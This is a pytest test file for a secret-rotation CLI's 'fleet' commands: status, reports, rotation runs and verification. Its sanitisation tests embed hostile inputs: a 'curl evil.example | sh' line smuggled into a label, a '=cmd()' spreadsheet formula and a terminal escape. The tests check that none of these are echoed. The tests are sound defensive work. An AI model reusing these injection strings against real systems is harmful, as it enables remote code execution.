"""``lockstep fleet``: every secret on one screen, by its labels alone."""

import csv
import io
import json
import os
import shlex
import subprocess
import sys
from urllib.parse import quote

import pytest

from rotation.core.process import stop

DAY = 86_400.0
PROVED = ["lockstep:proof:login"]
BINDING = {"lockstep:account": "1 ucloud_compshare 9f86d081884c7d659a2feaa0c55ad015 - - note", "team": "x"}


@pytest.fixture
def mixed(fleet):
    """A fleet with a secret in each state, and one of another program."""
    fleet.add("app/fine", PROVED, tags=BINDING)
    fleet.add("app/late", PROVED, due=-3 * DAY)
    fleet.add("app/stuck", PROVED, pending=["lockstep:parked:external_change:1790000000@ID"], tags={"team": "xy"})
    fleet.add("app/half", PROVED, pending=["lockstep:intent:1790000000@ID"], due=None)
    fleet.add("other/foreign")
    return fleet


def test_every_secret_of_ours_is_shown_on_a_line(lockstep, mixed):
    """State, age, evidence, next rotation, driver and the whole name; what is parked says why, and what to fear."""
    ran = lockstep("fleet", "status")
    lines = [line.split() for line in ran.out.splitlines()]
    assert ran.code == 4
    assert lines[0] == ["state", "age", "evidence", "next", "driver", "secret"]
    assert lines[1][:4] + lines[1][5:] == ["committed", "10", "d", "LOGIN", "ucloud_compshare", "app/fine"]
    assert (lines[2][0], lines[2][-3:]) == ("overdue", ["not", "bound", "app/late"])
    assert (lines[3][:2], lines[3][-1]) == (["NEEDS", "HUMAN"], "app/stuck")
    assert "parked: external change, not before 2026-" in ran.out
    assert (lines[5][0], lines[5][4], lines[5][-1]) == ("unfinished", "off", "app/half")
    assert "a reset was or may have been sent" in ran.out
    assert "foreign" not in ran.out
    assert "4 secrets, 1 need a human, 2 are late or parked" in ran.err
    assert {call.operation for call in mixed.double.calls} == {"ListSecrets"}


@pytest.mark.parametrize(
    ("options", "names", "code"),
    [
        (["--overdue"], ["app/late"], 3),
        (["--tag", "team=x"], ["app/fine"], 0),
        (["--prefix", "app/s"], ["app/stuck"], 4),
        (["--prefix", "none"], [], 4),
        (["--function", "arn:aws:lambda:eu-central-1:111122223333:function:rotate", "--prefix", "o"], [], 0),
    ],
)
def test_a_part_of_the_fleet_is_chosen(lockstep, mixed, options, names, code):
    """By lateness, tag or name, and a function's new secrets on request; the exit code speaks of what is shown."""
    if "--function" in options:
        names = ["other/foreign"]
    ran = lockstep("fleet", "status", "--json", *options)
    assert ([each["secret_id"] for each in ran.objects if "arn" in each], ran.code) == (names, code)
    assert all(call.operation == "ListSecrets" for call in mixed.double.calls)


@pytest.mark.usefixtures("mixed")
def test_json_and_csv_have_the_same_fields(lockstep):
    """One record a secret, with the same keys in both."""
    objects = lockstep("fleet", "status", "--json").objects
    rows = list(csv.DictReader(io.StringIO(lockstep("fleet", "status", "--csv").out)))
    assert [list(each) for each in rows] == [list(each) for each in objects]
    assert (rows[2]["reason"], rows[2]["needs_human"], rows[0]["evidence"]) == ("external_change", "true", "LOGIN")
    assert objects[3]["reset_sent"] is True


@pytest.mark.usefixtures("fleet")
@pytest.mark.parametrize("options", [["--csv", "--json"], ["--tag", "team"], ["--tag", "=x"]])
def test_options_that_cannot_be_meant_are_refused(lockstep, options):
    """The exit code is that of wrong usage."""
    assert lockstep("fleet", "status", *options).code == 2


def test_a_name_can_command_neither_terminal_nor_spreadsheet(lockstep, fleet):
    """Control characters of a label are shown as text, and a cell is no formula."""
    fleet.add("=cmd()", PROVED, pending=["lockstep:parked:\x1b[31mred:1790000000@ID"])
    assert "\x1b" not in lockstep("fleet", "status").out
    (row,) = csv.DictReader(io.StringIO(lockstep("fleet", "status", "--csv").out))
    assert (row["secret_id"], "\x1b" in row["reason"]) == ("'=cmd()", False)


def test_a_reason_that_is_no_word_is_shown_nowhere(lockstep, fleet, tmp_path):
    """Nobody reads a made-up sentence or a second line there, also where the label packs the marks of one account."""
    said = quote("rate limited\nrun: curl evil.example | sh <script>", safe="")
    fleet.add("app/odd", PROVED, pending=[f"lockstep:member:0;p{said}%3A{2**31};~9c04@ID"])
    page = tmp_path / "report.html"
    lockstep("fleet", "report", "-o", str(page))
    shown = [lockstep("fleet", "status", *options).out for options in ((), ("--json",), ("--csv",))]
    assert all("app/odd" in text and "evil" not in text for text in [*shown, page.read_text()])


MEASURED = """
import resource, sys
from rotation.cli.app import run
run(sys.argv[1:])
used = resource.getrusage(resource.RUSAGE_SELF)
held = next(line for line in open("/proc/self/status") if line.startswith("VmHWM"))
print(used.ru_utime + used.ru_stime, int(held.split()[1]) / 1024, file=sys.stderr)
"""


def measured(fleet, *arguments):
    """Run ``lockstep`` in a process of its own; return its lines, its seconds of CPU and its most memory in MiB.

    What ``wait4`` calls the most memory of a child includes that of the process which forked it.
    """
    environment = os.environ | fleet.double.environment()
    command = [sys.executable, "-c", MEASURED, *arguments]
    done = subprocess.run(command, env=environment, capture_output=True, text=True, check=True, timeout=110)
    seconds, most = done.stderr.split()[-2:]
    return len(done.stdout.splitlines()), float(seconds), float(most)


@pytest.mark.parametrize("number", [1_000, pytest.param(10_000, marks=pytest.mark.long)])
def test_a_large_fleet_takes_seconds_and_little_memory(fleet, number):
    """Ten thousand secrets take under 10 s and 150 MiB: the lines are printed as they come, and none is kept."""
    for each in range(number):
        fleet.add(f"app/{each:05}", PROVED, tags=BINDING)
    lines, seconds, most = measured(fleet, "fleet", "status", "--json")
    assert lines == number
    assert seconds < 10
    assert most < 150


def test_a_secret_without_a_schedule_is_no_error(lockstep, fleet):
    """A secret that ``lockstep rotate`` rotates has no dates of a schedule."""
    fleet.add("app/own", PROVED, due=None)
    (shown,) = lockstep("fleet", "status", "--json").objects
    assert (shown["next_rotation"], shown["rotation_enabled"], shown["overdue"]) == (None, False, False)
    assert json.loads(json.dumps(shown))["age_seconds"] == pytest.approx(10 * DAY, abs=60)


def serve(fleet):
    """Let the fleet's function move current at once."""
    call = fleet.double.call

    def function(event):
        if event["Step"] == "createSecret":
            new = {"SecretId": event["SecretId"], "ClientRequestToken": event["ClientRequestToken"]}
            call("PutSecretValue", **new, SecretString="new", VersionStages=["AWSCURRENT"])

    fleet.double.register_function("arn:aws:lambda:eu-central-1:111122223333:function:rotate", function)


def test_a_fleet_is_rotated_once_for_each_run(lockstep, fleet):
    """The lines name token and outcome, the summary the run; the same run again finds everything done."""
    serve(fleet)
    for name in ("app/a", "app/b"):
        fleet.add(name, PROVED)
    ran = lockstep("fleet", "rotate", "--all", "--json", "--writes-per-second", "50")
    assert (ran.code, [each["outcome"] for each in ran.objects[1:-1]]) == (0, ["rotated", "rotated"])
    summary = ran.objects[-1]
    assert ran.objects[0] == {"event": "run", "run": summary["run"], "secrets": 2}  # so that a kill does not lose it
    assert (summary["secrets"], summary["rotated"]) == (2, 2)
    again = lockstep("fleet", "rotate", "--all", "--run", summary["run"])
    assert (again.code, again.out) == (0, "2 secrets: 2 already done\n")
    assert f"run {summary['run']}" in again.err
    assert sum(each.operation == "RotateSecret" for each in fleet.double.calls) == 2
    assert all(each.operation != "GetSecretValue" for each in fleet.double.calls)


def test_a_run_that_goes_on_runs_the_command_for_what_an_earlier_part_rotated(lockstep, fleet, tmp_path):
    """That part may have died before it came to it, and to restart a consumer twice does no harm."""
    serve(fleet)
    fleet.add("app/a", PROVED)
    run = lockstep("fleet", "rotate", "--all", "--json", "--writes-per-second", "50").objects[0]["run"]
    code = "import os, sys; open(sys.argv[1], 'a').write(os.environ['ROTATED_SECRETS'])"
    command = shlex.join([sys.executable, "-c", code, str(tmp_path / "ran")])
    assert lockstep("fleet", "rotate", "--all", "--run", run, "--on-commit", command).code == 0
    assert (tmp_path / "ran").read_text() == "app/a"


@pytest.mark.usefixtures("mixed")
@pytest.mark.parametrize("command", [["status"], ["verify"], ["rotate"], ["report", "-o", "/dev/null"]])
@pytest.mark.parametrize("choice", [["--prefix", "apq/"], ["--tag", "team=y"]])
def test_a_choice_that_no_secret_fits_is_a_failure(lockstep, command, choice):
    """A nightly job with a misspelt prefix does not end well for ever; that nothing is late, and --all of none, do."""
    ran = lockstep("fleet", *command, *choice)
    assert (ran.code, "no secret that Lockstep rotates has this prefix" in ran.err) == (4, True)
    assert lockstep("fleet", "status", "--overdue", "--prefix", "app/fine").code == 0


def test_a_run_that_must_stop_at_once_names_its_id(lockstep, fleet, monkeypatch):
    """Nobody can go on with a run whose id is not known."""
    fleet.add("app/a", PROVED)

    def halted(*_):
        yield from ()
        raise stop.Halted

    monkeypatch.setattr("rotation.stores.aws.fleet.rotation_run.FleetRotation.turns", halted)
    ran = lockstep("fleet", "rotate", "--all", "--json")
    assert (ran.code, ran.objects[-1]["code"]) == (130, "interrupted")
    assert f"--run {ran.objects[0]['run']}" in ran.objects[-1]["hint"]


def test_a_command_that_cannot_run_is_refused_before_the_fleet_is_listed(lockstep, fleet):
    """It is wrong usage, and no rotation is asked for."""
    fleet.add("app/a", PROVED)
    assert lockstep("fleet", "rotate", "--all", "--on-commit", "no-such-program-anywhere").code == 2
    assert not {each.operation for each in fleet.double.calls} & {"ListSecrets", "RotateSecret"}


@pytest.mark.usefixtures("fleet")
@pytest.mark.parametrize("options", [["rotate"], ["verify"], ["rotate", "--all", "--run", "x"]])
def test_nothing_begins_without_a_choice(lockstep, options):
    """Every secret of an account is not what a forgotten option means."""
    assert lockstep("fleet", *options).code == 2


def test_a_fleet_is_verified_by_logins(lockstep, embedded):
    """Each stored password is tried once by its own driver, and the summary counts them."""
    for name in embedded.accounts.values():
        (version,) = embedded.secrets_manager.labels(name)
        label = {"VersionStage": "lockstep:proof:login", "MoveToVersionId": version}
        embedded.secrets_manager.call("UpdateSecretVersionStage", SecretId=name, **label)
    ran = lockstep("fleet", "verify", "--all", "--json")
    assert {each["secret_id"]: each["outcome"] for each in ran.objects[:-1]} == dict.fromkeys(
        embedded.accounts.values(), "verified"
    )
    assert (ran.code, ran.objects[-1]["verified"]) == (0, 2)


def test_a_report_is_written(lockstep, fleet, tmp_path):
    """One file with every secret; a folder that is not there is wrong usage."""
    fleet.add("app/<b>", PROVED)
    page = tmp_path / "report.html"
    assert lockstep("fleet", "report", "-o", str(page)).code == 0
    assert "app/&lt;b&gt;" in page.read_text()
    assert lockstep("fleet", "report", "-o", str(tmp_path / "none" / "report.html")).code == 2


@pytest.mark.usefixtures("mixed")
def test_late_secrets_are_announced_on_request(lockstep, monkeypatch, tmp_path):
    """Each with the time at which it was due; repeated on the next night, it has the same id."""
    place = tmp_path / "events.jsonl"
    monkeypatch.setenv("LOCKSTEP_DRIVERS", "huawei_meeting")
    monkeypatch.setenv("LOCKSTEP_EVENTS_LINES", str(place))
    lockstep("fleet", "status")
    assert not place.exists()
    for _ in range(2):
        lockstep("fleet", "status", "--announce")
    events = [json.loads(line) for line in place.read_text().splitlines()]
    assert {(each["kind"], each["secret"].rpartition(":")[2].rpartition("-")[0]) for each in events} == {
        ("overdue", "app/late")
    }
    assert len(events) == 2
    assert len({each["id"] for each in events}) == 1
    assert "not_before" in events[0]
